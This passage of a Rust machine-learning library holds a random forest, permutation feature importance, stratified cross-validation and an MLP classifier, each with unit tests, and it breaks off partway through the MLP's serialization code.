        let hr = f_beta(0.5, 1.0, 2.0);
        // High precision, low recall (swapped).
        let hp = f_beta(1.0, 0.5, 2.0);
        assert!(hr > hp);
        // F1 is symmetric.
        assert!((f_beta(0.5, 1.0, 1.0) - f_beta(1.0, 0.5, 1.0)).abs() < 1e-12);
    }

    #[test]
    fn roc_of_perfect_classifier_is_unit_square() {
        let y = [false, false, true, true];
        let s = [0.1, 0.2, 0.8, 0.9];
        assert!((auc(&y, &s) - 1.0).abs() < 1e-12);
        let points = roc_curve(&y, &s);
        assert_eq!(points.first(), Some(&(0.0, 0.0)));
        assert_eq!(points.last(), Some(&(1.0, 1.0)));
    }

    #[test]
    fn roc_of_random_scores_is_half() {
        // Anti-diagonal ordering: alternating labels with tied-rank scores.
        let y: Vec<bool> = (0..1000).map(|i| i % 2 == 0).collect();
        let s: Vec<f64> = (0..1000).map(|i| (i / 2) as f64).collect();
        let a = auc(&y, &s);
        assert!((a - 0.5).abs() < 0.01, "auc {a}");
    }

    #[test]
    fn inverted_classifier_has_auc_below_half() {
        let y = [false, false, true, true];
        let s = [0.9, 0.8, 0.2, 0.1];
        assert!(auc(&y, &s) < 0.01);
    }

    #[test]
    fn tied_scores_grouped() {
        let y = [true, false, true, false];
        let s = [0.5, 0.5, 0.5, 0.5];
        // All tied: one group, so the ROC is the diagonal (0,0)->(1,1).
        assert!((auc(&y, &s) - 0.5).abs() < 1e-12);
        assert_eq!(roc_curve(&y, &s), vec![(0.0, 0.0), (1.0, 1.0)]);
    }

    #[test]
    fn single_class_degenerates_gracefully() {
        assert_eq!(
            roc_curve(&[true, true], &[0.1, 0.9]),
            vec![(0.0, 0.0), (1.0, 1.0)]
        );
    }
}
