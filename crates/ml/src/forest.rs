//! Random Forest (Ho 1995; Breiman 2001): bagged CART trees with random
//! feature subsets per split, majority-vote probability.

use crate::tree::{DecisionTree, TreeParams};
use crate::Classifier;
use rand::rngs::StdRng;
use rand::Rng;
use rand::SeedableRng;

/// Random Forest classifier.
///
/// `decision_function` returns `mean tree probability − 0.5`, so the sign
/// convention of [`Classifier`] holds and the raw score still ranks samples
/// for ROC analysis.
#[derive(Debug, Clone)]
pub struct RandomForest {
    n_trees: usize,
    /// Features per split; 0 = √d chosen at fit time.
    max_features: usize,
    seed: u64,
    trees: Vec<DecisionTree>,
    flat: FlatForest,
}

/// Struct-of-arrays node layout for every tree in the forest, built once
/// at fit/load time. All trees share three contiguous lanes (feature
/// index, threshold, child pair), so a prediction is a tight loop over
/// cache-dense arrays instead of a pointer-chasing enum walk per node.
/// Leaves carry `u32::MAX` in the feature lane and their positive
/// fraction in the threshold lane.
#[derive(Debug, Clone, Default)]
struct FlatForest {
    feature: Vec<u32>,
    threshold: Vec<f64>,
    children: Vec<[u32; 2]>,
    roots: Vec<u32>,
}

impl FlatForest {
    fn build(trees: &[DecisionTree]) -> Self {
        let mut flat = FlatForest::default();
        for tree in trees {
            flat.roots.push(flat.feature.len() as u32);
            tree.flatten_into(&mut flat.feature, &mut flat.threshold, &mut flat.children);
        }
        flat
    }

    #[inline]
    #[allow(clippy::neg_cmp_op_on_partial_ord)]
    fn tree_proba(&self, mut n: usize, x: &[f64]) -> f64 {
        loop {
            let f = self.feature[n];
            if f == u32::MAX {
                return self.threshold[n];
            }
            // `!(x <= t)` (not `x > t`) keeps NaN routed right, matching
            // the reference walk's `if x <= t { left } else { right }`.
            let go_right = !(x[f as usize] <= self.threshold[n]);
            n = self.children[n][usize::from(go_right)] as usize;
        }
    }
}

impl RandomForest {
    /// `n_trees` bagged trees; `max_features` per split (0 = √d).
    pub fn new(n_trees: usize, max_features: usize) -> Self {
        Self::with_seed(n_trees, max_features, 0x5EED)
    }

    /// As [`RandomForest::new`] with an explicit RNG seed.
    pub fn with_seed(n_trees: usize, max_features: usize, seed: u64) -> Self {
        assert!(n_trees > 0, "need at least one tree");
        RandomForest {
            n_trees,
            max_features,
            seed,
            trees: Vec::new(),
            flat: FlatForest::default(),
        }
    }

    /// Mean positive-fraction across trees (0..=1), via the flattened
    /// struct-of-arrays layout. Bit-identical to
    /// [`RandomForest::predict_proba_reference`] (same per-tree values,
    /// same summation order).
    pub fn predict_proba(&self, x: &[f64]) -> f64 {
        assert!(!self.trees.is_empty(), "predict before fit");
        self.flat
            .roots
            .iter()
            .map(|&r| self.flat.tree_proba(r as usize, x))
            .sum::<f64>()
            / self.flat.roots.len() as f64
    }

    /// Reference prediction walking the original per-node enum trees;
    /// kept as the equivalence oracle for the flattened hot path.
    pub fn predict_proba_reference(&self, x: &[f64]) -> f64 {
        assert!(!self.trees.is_empty(), "predict before fit");
        self.trees.iter().map(|t| t.predict_proba(x)).sum::<f64>() / self.trees.len() as f64
    }
}

impl Classifier for RandomForest {
    fn fit(&mut self, x: &[Vec<f64>], y: &[bool]) {
        crate::validate_fit_input(x, y);
        let dim = x[0].len();
        let max_features = if self.max_features == 0 {
            (dim as f64).sqrt().round().max(1.0) as usize
        } else {
            self.max_features.min(dim)
        };
        let params = TreeParams {
            max_features,
            ..TreeParams::default()
        };
        let mut rng = StdRng::seed_from_u64(self.seed);
        self.trees = (0..self.n_trees)
            .map(|_| {
                // Bootstrap sample (with replacement), same size as input.
                let idx: Vec<usize> = (0..x.len()).map(|_| rng.gen_range(0..x.len())).collect();
                DecisionTree::fit(x, y, &idx, params, &mut rng)
            })
            .collect();
        self.flat = FlatForest::build(&self.trees);
    }

    fn decision_function(&self, x: &[f64]) -> f64 {
        self.predict_proba(x) - 0.5
    }

    fn name(&self) -> &'static str {
        "RF"
    }

    fn save_text(&self) -> String {
        self.to_text()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blobs(n: usize) -> (Vec<Vec<f64>>, Vec<bool>) {
        let mut x = Vec::new();
        let mut y = Vec::new();
        for i in 0..n {
            let t = i as f64 * 0.618;
            let jitter = (t.sin(), t.cos());
            x.push(vec![jitter.0, jitter.1]);
            y.push(false);
            x.push(vec![4.0 + jitter.0, 4.0 + jitter.1]);
            y.push(true);
        }
        (x, y)
    }

    #[test]
    fn separable_blobs_are_learned() {
        let (x, y) = blobs(100);
        let mut rf = RandomForest::with_seed(30, 0, 1);
        rf.fit(&x, &y);
        assert!(rf.predict(&[4.0, 4.0]));
        assert!(!rf.predict(&[0.0, 0.0]));
        assert!(rf.predict_proba(&[4.0, 4.0]) > 0.9);
        assert!(rf.predict_proba(&[0.0, 0.0]) < 0.1);
    }

    #[test]
    fn probability_is_monotone_along_the_gradient() {
        let (x, y) = blobs(100);
        let mut rf = RandomForest::with_seed(50, 0, 2);
        rf.fit(&x, &y);
        let p0 = rf.predict_proba(&[0.0, 0.0]);
        let p2 = rf.predict_proba(&[2.0, 2.0]);
        let p4 = rf.predict_proba(&[4.0, 4.0]);
        assert!(p0 <= p2 && p2 <= p4, "{p0} {p2} {p4}");
    }

    #[test]
    fn deterministic_given_seed() {
        let (x, y) = blobs(50);
        let mut a = RandomForest::with_seed(10, 0, 9);
        let mut b = RandomForest::with_seed(10, 0, 9);
        a.fit(&x, &y);
        b.fit(&x, &y);
        for probe in [[1.0, 1.0], [3.0, 3.0], [-1.0, 5.0]] {
            assert_eq!(a.decision_function(&probe), b.decision_function(&probe));
        }
    }

    #[test]
    fn decision_function_sign_matches_predict() {
        let (x, y) = blobs(60);
        let mut rf = RandomForest::with_seed(20, 0, 3);
        rf.fit(&x, &y);
        for probe in [[0.0, 0.0], [4.0, 4.0], [2.0, 2.0]] {
            assert_eq!(rf.predict(&probe), rf.decision_function(&probe) >= 0.0);
        }
    }

    #[test]
    #[should_panic(expected = "at least one tree")]
    fn zero_trees_rejected() {
        let _ = RandomForest::new(0, 0);
    }

    #[test]
    #[should_panic(expected = "non-empty")]
    fn empty_fit_rejected() {
        let mut rf = RandomForest::new(5, 0);
        rf.fit(&[], &[]);
    }

    #[test]
    fn flat_predict_matches_reference_bitwise() {
        let (x, y) = blobs(80);
        let mut rf = RandomForest::with_seed(25, 0, 7);
        rf.fit(&x, &y);
        let probes: Vec<Vec<f64>> = x
            .iter()
            .cloned()
            .chain([
                vec![f64::NAN, 1.0],
                vec![1.0, f64::NAN],
                vec![f64::INFINITY, f64::NEG_INFINITY],
                vec![-0.0, 0.0],
            ])
            .collect();
        for probe in &probes {
            assert_eq!(
                rf.predict_proba(probe).to_bits(),
                rf.predict_proba_reference(probe).to_bits(),
                "probe {probe:?}"
            );
        }
    }
}

// --- persistence ---------------------------------------------------------

impl RandomForest {
    /// Serializes the fitted forest to text.
    ///
    /// # Panics
    ///
    /// Panics if called before [`Classifier::fit`].
    pub fn to_text(&self) -> String {
        assert!(!self.trees.is_empty(), "save before fit");
        let mut w = crate::persist::Writer::new("rf");
        w.ints(
            "meta",
            &[
                self.n_trees as i64,
                self.max_features as i64,
                self.seed as i64,
            ],
        );
        w.ints("trees", &[self.trees.len() as i64]);
        for tree in &self.trees {
            tree.write_to(&mut w);
        }
        w.finish()
    }

    /// Restores a forest saved by [`RandomForest::to_text`].
    ///
    /// # Errors
    ///
    /// Fails on malformed or truncated text.
    pub fn from_text(text: &str) -> Result<Self, crate::persist::PersistError> {
        let mut r = crate::persist::Reader::open(text, "rf")?;
        let meta = r.ints("meta")?;
        if meta.len() != 3 {
            return Err(crate::persist::PersistError {
                line: 2,
                reason: "meta needs 3 fields".to_string(),
            });
        }
        let count = r.int("trees")? as usize;
        let mut trees = Vec::with_capacity(count);
        for _ in 0..count {
            trees.push(crate::tree::DecisionTree::read_from(&mut r)?);
        }
        if trees.is_empty() {
            return Err(crate::persist::PersistError {
                line: 0,
                reason: "forest with no trees".to_string(),
            });
        }
        let flat = FlatForest::build(&trees);
        Ok(RandomForest {
            n_trees: meta[0] as usize,
            max_features: meta[1] as usize,
            seed: meta[2] as u64,
            trees,
            flat,
        })
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;
    use crate::Classifier;

    #[test]
    fn save_load_roundtrip_is_exact() {
        let x: Vec<Vec<f64>> = (0..80)
            .map(|i| vec![i as f64, (i * 7 % 13) as f64])
            .collect();
        let y: Vec<bool> = (0..80).map(|i| i % 3 == 0).collect();
        let mut rf = RandomForest::with_seed(12, 0, 5);
        rf.fit(&x, &y);
        let text = rf.to_text();
        let loaded = RandomForest::from_text(&text).unwrap();
        for row in &x {
            assert_eq!(
                rf.decision_function(row).to_bits(),
                loaded.decision_function(row).to_bits()
            );
            // The loaded model's rebuilt flat layout also matches its own
            // reference walk.
            assert_eq!(
                loaded.predict_proba(row).to_bits(),
                loaded.predict_proba_reference(row).to_bits()
            );
        }
    }

    #[test]
    fn corrupted_text_rejected_not_panicking() {
        let x: Vec<Vec<f64>> = (0..20).map(|i| vec![i as f64]).collect();
        let y: Vec<bool> = (0..20).map(|i| i >= 10).collect();
        let mut rf = RandomForest::with_seed(3, 0, 5);
        rf.fit(&x, &y);
        let text = rf.to_text();
        for cut in [10usize, text.len() / 2, text.len() - 2] {
            let _ = RandomForest::from_text(&text[..cut]);
        }
        let garbled = text.replace("tree", "eert");
        assert!(RandomForest::from_text(&garbled).is_err());
    }
}
