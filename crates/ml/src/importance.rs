//! Permutation feature importance (Breiman 2001): the drop in a metric when
//! one feature column is shuffled, breaking its relationship to the label
//! while preserving its marginal distribution.

use crate::metrics::ConfusionMatrix;
use crate::Classifier;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

/// Importance of one feature.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FeatureImportance {
    /// Column index.
    pub feature: usize,
    /// Metric with the column intact.
    pub baseline: f64,
    /// Mean metric across permutation repeats.
    pub permuted: f64,
}

impl FeatureImportance {
    /// The importance: baseline − permuted (higher = more important).
    pub fn drop(&self) -> f64 {
        self.baseline - self.permuted
    }
}

/// Computes permutation importance of every feature for a *fitted* model on
/// an evaluation set, using F2 as the metric (matching the paper's headline
/// measure). `repeats` shuffles are averaged per feature.
///
/// # Panics
///
/// Panics when `x` is empty or ragged, or `repeats == 0`.
pub fn permutation_importance(
    model: &dyn Classifier,
    x: &[Vec<f64>],
    y: &[bool],
    repeats: usize,
    seed: u64,
) -> Vec<FeatureImportance> {
    crate::validate_fit_input(x, y);
    assert!(repeats > 0, "need at least one repeat");
    let dim = x[0].len();
    let mut rng = StdRng::seed_from_u64(seed);

    let f2 = |data: &[Vec<f64>]| -> f64 {
        let predictions: Vec<bool> = data.iter().map(|row| model.predict(row)).collect();
        ConfusionMatrix::from_predictions(y, &predictions).f_beta(2.0)
    };
    let baseline = f2(x);

    let mut out = Vec::with_capacity(dim);
    let mut scratch: Vec<Vec<f64>> = x.to_vec();
    for feature in 0..dim {
        let mut sum = 0.0;
        for _ in 0..repeats {
            // Shuffle the column in place, evaluate, then restore.
            let mut column: Vec<f64> = x.iter().map(|row| row[feature]).collect();
            column.shuffle(&mut rng);
            for (row, v) in scratch.iter_mut().zip(&column) {
                row[feature] = *v;
            }
            sum += f2(&scratch);
        }
        for (row, orig) in scratch.iter_mut().zip(x) {
            row[feature] = orig[feature];
        }
        out.push(FeatureImportance {
            feature,
            baseline,
            permuted: sum / repeats as f64,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::RandomForest;

    /// Feature 0 carries the label; features 1-2 are noise.
    fn informative_dataset() -> (Vec<Vec<f64>>, Vec<bool>) {
        let mut x = Vec::new();
        let mut y = Vec::new();
        let mut state = 5u64;
        let mut noise = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % 1000) as f64 / 100.0
        };
        for i in 0..300 {
            let label = i % 2 == 0;
            x.push(vec![if label { 10.0 } else { 0.0 }, noise(), noise()]);
            y.push(label);
        }
        (x, y)
    }

    #[test]
    fn informative_feature_dominates() {
        let (x, y) = informative_dataset();
        let mut rf = RandomForest::with_seed(20, 0, 1);
        rf.fit(&x, &y);
        let importances = permutation_importance(&rf, &x, &y, 3, 7);
        assert_eq!(importances.len(), 3);
        assert!(
            importances[0].drop() > 0.3,
            "label-carrying feature must matter: {:?}",
            importances[0]
        );
        for imp in &importances[1..] {
            assert!(
                imp.drop() < importances[0].drop() / 2.0,
                "noise feature too important: {imp:?}"
            );
        }
    }

    #[test]
    fn baseline_is_shared_across_features() {
        let (x, y) = informative_dataset();
        let mut rf = RandomForest::with_seed(10, 0, 2);
        rf.fit(&x, &y);
        let importances = permutation_importance(&rf, &x, &y, 2, 3);
        let b = importances[0].baseline;
        assert!(importances.iter().all(|i| i.baseline == b));
    }

    #[test]
    fn deterministic_given_seed() {
        let (x, y) = informative_dataset();
        let mut rf = RandomForest::with_seed(10, 0, 2);
        rf.fit(&x, &y);
        let a = permutation_importance(&rf, &x, &y, 2, 9);
        let b = permutation_importance(&rf, &x, &y, 2, 9);
        assert_eq!(a, b);
    }

    #[test]
    #[should_panic(expected = "repeat")]
    fn zero_repeats_rejected() {
        let (x, y) = informative_dataset();
        let mut rf = RandomForest::with_seed(5, 0, 2);
        rf.fit(&x, &y);
        let _ = permutation_importance(&rf, &x, &y, 0, 1);
    }
}
