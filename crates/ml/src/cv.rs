//! Stratified k-fold cross-validation (§V uses 10-fold).

use crate::metrics::ConfusionMatrix;
use crate::scaler::StandardScaler;
use crate::Classifier;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

/// Splits sample indices into `k` folds preserving the class ratio.
/// Returns one `Vec<usize>` of test indices per fold; every sample appears
/// in exactly one fold.
///
/// # Panics
///
/// Panics when `k < 2` or `k` exceeds the number of samples.
pub fn stratified_kfold(labels: &[bool], k: usize, seed: u64) -> Vec<Vec<usize>> {
    assert!(k >= 2, "need at least 2 folds");
    assert!(k <= labels.len(), "more folds than samples");
    let mut rng = StdRng::seed_from_u64(seed);
    let mut pos: Vec<usize> = (0..labels.len()).filter(|&i| labels[i]).collect();
    let mut neg: Vec<usize> = (0..labels.len()).filter(|&i| !labels[i]).collect();
    pos.shuffle(&mut rng);
    neg.shuffle(&mut rng);
    let mut folds = vec![Vec::new(); k];
    for (i, idx) in pos.into_iter().enumerate() {
        folds[i % k].push(idx);
    }
    for (i, idx) in neg.into_iter().enumerate() {
        folds[i % k].push(idx);
    }
    folds
}

/// Result of one cross-validation run: pooled out-of-fold predictions and
/// scores (index-aligned with the input samples) plus per-fold matrices.
#[derive(Debug, Clone)]
pub struct CvOutcome {
    /// Out-of-fold hard prediction per sample.
    pub predictions: Vec<bool>,
    /// Out-of-fold decision score per sample (for ROC/AUC).
    pub scores: Vec<f64>,
    /// Ground-truth labels (copied for convenience).
    pub labels: Vec<bool>,
    /// Confusion matrix per fold.
    pub fold_matrices: Vec<ConfusionMatrix>,
}

impl CvOutcome {
    /// Pooled confusion matrix over all out-of-fold predictions.
    pub fn confusion(&self) -> ConfusionMatrix {
        ConfusionMatrix::from_predictions(&self.labels, &self.predictions)
    }

    /// Pooled AUC over out-of-fold scores.
    pub fn auc(&self) -> f64 {
        crate::metrics::auc(&self.labels, &self.scores)
    }
}

/// Runs stratified k-fold cross-validation: for each fold, fits a fresh
/// classifier from `make` on the standardized training portion and scores
/// the held-out portion. Standardization is fitted per fold on training
/// data only (no leakage).
pub fn cross_validate<F>(make: F, x: &[Vec<f64>], y: &[bool], k: usize, seed: u64) -> CvOutcome
where
    F: Fn() -> Box<dyn Classifier>,
{
    crate::validate_fit_input(x, y);
    let folds = stratified_kfold(y, k, seed);
    let mut predictions = vec![false; y.len()];
    let mut scores = vec![0.0f64; y.len()];
    let mut fold_matrices = Vec::with_capacity(k);

    for test_idx in &folds {
        let test_set: std::collections::HashSet<usize> = test_idx.iter().copied().collect();
        let train_idx: Vec<usize> = (0..y.len()).filter(|i| !test_set.contains(i)).collect();

        let train_x: Vec<Vec<f64>> = train_idx.iter().map(|&i| x[i].clone()).collect();
        let train_y: Vec<bool> = train_idx.iter().map(|&i| y[i]).collect();
        let scaler = StandardScaler::fit(&train_x);
        let train_x = scaler.transform_all(&train_x);

        let mut model = make();
        model.fit(&train_x, &train_y);

        let mut fold_true = Vec::with_capacity(test_idx.len());
        let mut fold_pred = Vec::with_capacity(test_idx.len());
        for &i in test_idx {
            let z = scaler.transform(&x[i]);
            let score = model.decision_function(&z);
            scores[i] = score;
            predictions[i] = score >= 0.0;
            fold_true.push(y[i]);
            fold_pred.push(predictions[i]);
        }
        fold_matrices.push(ConfusionMatrix::from_predictions(&fold_true, &fold_pred));
    }

    CvOutcome {
        predictions,
        scores,
        labels: y.to_vec(),
        fold_matrices,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn folds_partition_and_stratify() {
        let labels: Vec<bool> = (0..100).map(|i| i % 5 == 0).collect(); // 20% positive
        let folds = stratified_kfold(&labels, 10, 7);
        assert_eq!(folds.len(), 10);
        let mut seen = [false; 100];
        for fold in &folds {
            assert_eq!(fold.len(), 10);
            let pos = fold.iter().filter(|&&i| labels[i]).count();
            assert_eq!(pos, 2, "each fold keeps the 20% ratio");
            for &i in fold {
                assert!(!seen[i], "sample {i} in two folds");
                seen[i] = true;
            }
        }
        assert!(seen.iter().all(|&s| s));
    }

    #[test]
    fn uneven_sizes_distribute_remainders() {
        let labels: Vec<bool> = (0..23).map(|i| i < 7).collect();
        let folds = stratified_kfold(&labels, 3, 1);
        let total: usize = folds.iter().map(|f| f.len()).sum();
        assert_eq!(total, 23);
        for fold in &folds {
            // Per-class round-robin: 7 pos -> 3/2/2, 16 neg -> 6/5/5.
            assert!((7..=9).contains(&fold.len()), "fold size {}", fold.len());
            let pos = fold.iter().filter(|&&i| labels[i]).count();
            assert!((2..=3).contains(&pos));
        }
    }

    #[test]
    fn deterministic_given_seed() {
        let labels: Vec<bool> = (0..50).map(|i| i % 3 == 0).collect();
        assert_eq!(
            stratified_kfold(&labels, 5, 9),
            stratified_kfold(&labels, 5, 9)
        );
        assert_ne!(
            stratified_kfold(&labels, 5, 9),
            stratified_kfold(&labels, 5, 10)
        );
    }

    #[test]
    fn cross_validation_on_separable_data() {
        // Two well-separated Gaussian-ish blobs.
        let mut x = Vec::new();
        let mut y = Vec::new();
        for i in 0..60 {
            let jitter = (i as f64 * 0.13).sin() * 0.3;
            x.push(vec![jitter, 0.0 + jitter]);
            y.push(false);
            x.push(vec![5.0 + jitter, 5.0 - jitter]);
            y.push(true);
        }
        let outcome = cross_validate(
            || Box::new(crate::RandomForest::with_seed(15, 0, 3)),
            &x,
            &y,
            5,
            42,
        );
        assert!(outcome.confusion().accuracy() > 0.95);
        assert!(outcome.auc() > 0.95);
        assert_eq!(outcome.fold_matrices.len(), 5);
        assert_eq!(outcome.predictions.len(), 120);
    }

    #[test]
    #[should_panic(expected = "folds")]
    fn k_of_one_panics() {
        stratified_kfold(&[true, false], 1, 0);
    }
}
