//! Multi-Layer Perceptron: fully-connected feed-forward network with ReLU
//! hidden layers and a sigmoid output, trained by mini-batch SGD with
//! momentum on binary cross-entropy (Haykin 2009).

use crate::Classifier;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::Rng;
use rand::SeedableRng;

/// One dense layer's parameters and gradients.
#[derive(Debug, Clone)]
struct Layer {
    /// `weights[out][in]`.
    weights: Vec<Vec<f64>>,
    bias: Vec<f64>,
    vel_w: Vec<Vec<f64>>,
    vel_b: Vec<f64>,
}

impl Layer {
    fn new<R: Rng + ?Sized>(inputs: usize, outputs: usize, rng: &mut R) -> Self {
        // He initialization (suits ReLU).
        let scale = (2.0 / inputs as f64).sqrt();
        let weights = (0..outputs)
            .map(|_| {
                (0..inputs)
                    .map(|_| (rng.gen::<f64>() * 2.0 - 1.0) * scale)
                    .collect()
            })
            .collect::<Vec<Vec<f64>>>();
        Layer {
            vel_w: vec![vec![0.0; inputs]; outputs],
            vel_b: vec![0.0; outputs],
            bias: vec![0.0; outputs],
            weights,
        }
    }

    fn forward(&self, x: &[f64]) -> Vec<f64> {
        self.weights
            .iter()
            .zip(&self.bias)
            .map(|(w, b)| w.iter().zip(x).map(|(wi, xi)| wi * xi).sum::<f64>() + b)
            .collect()
    }
}

/// MLP binary classifier.
///
/// `decision_function` returns the pre-sigmoid logit, so 0 corresponds to
/// probability 0.5 and scores rank correctly for ROC analysis.
#[derive(Debug, Clone)]
pub struct MlpClassifier {
    hidden: Vec<usize>,
    epochs: usize,
    learning_rate: f64,
    momentum: f64,
    batch_size: usize,
    seed: u64,
    layers: Vec<Layer>,
}

impl MlpClassifier {
    /// Network with the given hidden layer sizes, trained for `epochs`
    /// passes at `learning_rate`.
    pub fn new(hidden: &[usize], epochs: usize, learning_rate: f64) -> Self {
        Self::with_seed(hidden, epochs, learning_rate, 0x4D4C50)
    }

    /// As [`MlpClassifier::new`] with an explicit seed for initialization
    /// and shuffling.
    pub fn with_seed(hidden: &[usize], epochs: usize, learning_rate: f64, seed: u64) -> Self {
        assert!(
            hidden.iter().all(|&h| h > 0),
            "hidden sizes must be positive"
        );
        assert!(learning_rate > 0.0, "learning rate must be positive");
        MlpClassifier {
            hidden: hidden.to_vec(),
            epochs,
            learning_rate,
            momentum: 0.9,
            batch_size: 32,
            seed,
            layers: Vec::new(),
        }
    }

    /// Forward pass, returning pre-activation and post-activation values
    /// per layer. The final layer is linear (logit).
    fn forward_full(&self, x: &[f64]) -> (Vec<Vec<f64>>, Vec<Vec<f64>>) {
        let mut pre = Vec::with_capacity(self.layers.len());
        let mut post = Vec::with_capacity(self.layers.len());
        let mut current = x.to_vec();
        for (li, layer) in self.layers.iter().enumerate() {
            let z = layer.forward(&current);
            let a = if li + 1 == self.layers.len() {
                z.clone() // output layer: linear logit
            } else {
                z.iter().map(|&v| v.max(0.0)).collect() // ReLU
            };
            pre.push(z);
            current = a.clone();
            post.push(a);
        }
        (pre, post)
    }
}

fn sigmoid(z: f64) -> f64 {
    1.0 / (1.0 + (-z).exp())
}

impl Classifier for MlpClassifier {
    fn fit(&mut self, x: &[Vec<f64>], y: &[bool]) {
        crate::validate_fit_input(x, y);
        let dim = x[0].len();
        let mut rng = StdRng::seed_from_u64(self.seed);

        let mut sizes = vec![dim];
        sizes.extend(&self.hidden);
        sizes.push(1);
        self.layers = sizes
            .windows(2)
            .map(|w| Layer::new(w[0], w[1], &mut rng))
            .collect();

        let mut order: Vec<usize> = (0..x.len()).collect();
        for _ in 0..self.epochs {
            order.shuffle(&mut rng);
            for batch in order.chunks(self.batch_size) {
                // Accumulate gradients over the batch.
                let mut grad_w: Vec<Vec<Vec<f64>>> = self
                    .layers
                    .iter()
                    .map(|l| vec![vec![0.0; l.weights[0].len()]; l.weights.len()])
                    .collect();
                let mut grad_b: Vec<Vec<f64>> = self
                    .layers
                    .iter()
                    .map(|l| vec![0.0; l.bias.len()])
                    .collect();

                for &i in batch {
                    let (pre, post) = self.forward_full(&x[i]);
                    let target = if y[i] { 1.0 } else { 0.0 };
                    let prob = sigmoid(post.last().expect("output layer")[0]);
                    // dL/dz_out for BCE on sigmoid: p - t.
                    let mut delta = vec![prob - target];

                    for li in (0..self.layers.len()).rev() {
                        let input: &[f64] = if li == 0 { &x[i] } else { &post[li - 1] };
                        for (o, &d) in delta.iter().enumerate() {
                            grad_b[li][o] += d;
                            for (iidx, &inp) in input.iter().enumerate() {
                                grad_w[li][o][iidx] += d * inp;
                            }
                        }
                        if li > 0 {
                            // Propagate through weights and the previous
                            // layer's ReLU.
                            let prev_n = self.layers[li].weights[0].len();
                            let mut next_delta = vec![0.0; prev_n];
                            for (o, &d) in delta.iter().enumerate() {
                                let weights = &self.layers[li].weights[o];
                                for (nd, &w) in next_delta.iter_mut().zip(weights) {
                                    *nd += d * w;
                                }
                            }
                            for (p, nd) in next_delta.iter_mut().enumerate() {
                                if pre[li - 1][p] <= 0.0 {
                                    *nd = 0.0;
                                }
                            }
                            delta = next_delta;
                        }
                    }
                }

                // Momentum SGD step.
                let scale = self.learning_rate / batch.len() as f64;
                for (li, layer) in self.layers.iter_mut().enumerate() {
                    for o in 0..layer.weights.len() {
                        for (iidx, &g) in grad_w[li][o].iter().enumerate() {
                            layer.vel_w[o][iidx] = self.momentum * layer.vel_w[o][iidx] - scale * g;
                            layer.weights[o][iidx] += layer.vel_w[o][iidx];
                        }
                        layer.vel_b[o] = self.momentum * layer.vel_b[o] - scale * grad_b[li][o];
                        layer.bias[o] += layer.vel_b[o];
                    }
                }
            }
        }
    }

    fn decision_function(&self, x: &[f64]) -> f64 {
        assert!(!self.layers.is_empty(), "predict before fit");
        let (_, post) = self.forward_full(x);
        post.last().expect("output layer")[0]
    }

    fn name(&self) -> &'static str {
        "MLP"
    }

    fn save_text(&self) -> String {
        self.to_text()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn learns_linear_boundary() {
        let x: Vec<Vec<f64>> = (0..100).map(|i| vec![(i as f64 - 50.0) / 10.0]).collect();
        let y: Vec<bool> = (0..100).map(|i| i >= 50).collect();
        let mut mlp = MlpClassifier::with_seed(&[8], 200, 0.05, 1);
        mlp.fit(&x, &y);
        assert!(mlp.predict(&[3.0]));
        assert!(!mlp.predict(&[-3.0]));
    }

    #[test]
    fn learns_xor() {
        let mut x = Vec::new();
        let mut y = Vec::new();
        for a in 0..2 {
            for b in 0..2 {
                for k in 0..25 {
                    let eps = (k as f64) * 0.002;
                    x.push(vec![a as f64 + eps, b as f64 - eps]);
                    y.push((a ^ b) == 1);
                }
            }
        }
        let mut mlp = MlpClassifier::with_seed(&[16], 500, 0.05, 3);
        mlp.fit(&x, &y);
        assert!(mlp.predict(&[0.0, 1.0]));
        assert!(mlp.predict(&[1.0, 0.0]));
        assert!(!mlp.predict(&[0.0, 0.0]));
        assert!(!mlp.predict(&[1.0, 1.0]));
    }

    #[test]
    fn logit_scores_are_monotone_in_confidence() {
        let x: Vec<Vec<f64>> = (0..100).map(|i| vec![(i as f64 - 50.0) / 10.0]).collect();
        let y: Vec<bool> = (0..100).map(|i| i >= 50).collect();
        let mut mlp = MlpClassifier::with_seed(&[8], 200, 0.05, 5);
        mlp.fit(&x, &y);
        assert!(mlp.decision_function(&[5.0]) > mlp.decision_function(&[0.5]));
        assert!(mlp.decision_function(&[-5.0]) < mlp.decision_function(&[-0.5]));
    }

    #[test]
    fn deterministic_given_seed() {
        let x: Vec<Vec<f64>> = (0..40).map(|i| vec![i as f64 / 10.0]).collect();
        let y: Vec<bool> = (0..40).map(|i| i % 2 == 0).collect();
        let mut a = MlpClassifier::with_seed(&[4], 20, 0.01, 11);
        let mut b = MlpClassifier::with_seed(&[4], 20, 0.01, 11);
        a.fit(&x, &y);
        b.fit(&x, &y);
        assert_eq!(a.decision_function(&[1.5]), b.decision_function(&[1.5]));
    }

    #[test]
    fn deep_network_trains() {
        let x: Vec<Vec<f64>> = (0..60).map(|i| vec![(i as f64 - 30.0) / 5.0]).collect();
        let y: Vec<bool> = (0..60).map(|i| i >= 30).collect();
        let mut mlp = MlpClassifier::with_seed(&[16, 8], 300, 0.03, 7);
        mlp.fit(&x, &y);
        assert!(mlp.predict(&[4.0]));
        assert!(!mlp.predict(&[-4.0]));
    }

    #[test]
    #[should_panic(expected = "hidden sizes")]
    fn zero_hidden_layer_size_rejected() {
        let _ = MlpClassifier::new(&[0], 10, 0.1);
    }
}

// --- persistence ---------------------------------------------------------

impl MlpClassifier {
    /// Serializes the fitted network to text.
    ///
    /// # Panics
    ///
    /// Panics if called before [`Classifier::fit`].
    pub fn to_text(&self) -> String {
        assert!(!self.layers.is_empty(), "save before fit");
        let mut w = crate::persist::Writer::new("mlp");
        let shape: Vec<i64> = std::iter::once(self.layers[0].weights[0].len() as i64)
            .chain(self.layers.iter().map(|l| l.weights.len() as i64))
            .collect();
        w.ints("shape", &shape);
        for layer in &self.layers {
            w.floats("bias", &layer.bias);
            for row in &layer.weights {
                w.floats("w", row);
            }
        }
        w.finish()
    }

